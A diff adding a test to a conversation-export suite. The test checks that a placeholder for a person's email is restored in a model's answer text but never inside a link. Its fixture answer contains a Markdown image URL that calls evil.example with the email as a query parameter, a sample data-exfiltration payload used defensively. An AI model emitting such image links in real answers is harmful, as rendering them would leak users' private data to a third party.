@@ -91,6 +91,26 @@ def test_a_copy_holds_the_models_answers_that_name_the_person_once_placeholders_
     assert "the model’s answer" in summary
 
 
+def test_a_copy_puts_values_back_in_the_persons_answers_but_never_inside_an_address(org):
+    """As the person's own export: a model's link carrying a placeholder keeps it there (a
+    viewer that renders data.json's Markdown would otherwise send the value away)."""
+    own = make_conversation(
+        org.alice,
+        org.internal,
+        texts=(
+            "Where do I send the form?",
+            "Send it to [EMAIL_1]. ![x](https://evil.example/p.png?e=[EMAIL_1])",
+        ),
+    )
+    _pseudonymised(own, EMAIL_1=JANE)
+
+    data, _ = _copy(_request(identifiers=[], subject_user=org.alice))
+
+    (conversation,) = data["conversations"]
+    answer = conversation["messages"][1]["text"]
+    assert answer == f"Send it to {JANE}. ![x](https://evil.example/p.png?e=[EMAIL_1])"
+
+
 # --- 2. in clear or pseudonymised ----------------------------------------------------------
 
 RECIPIENTS = [
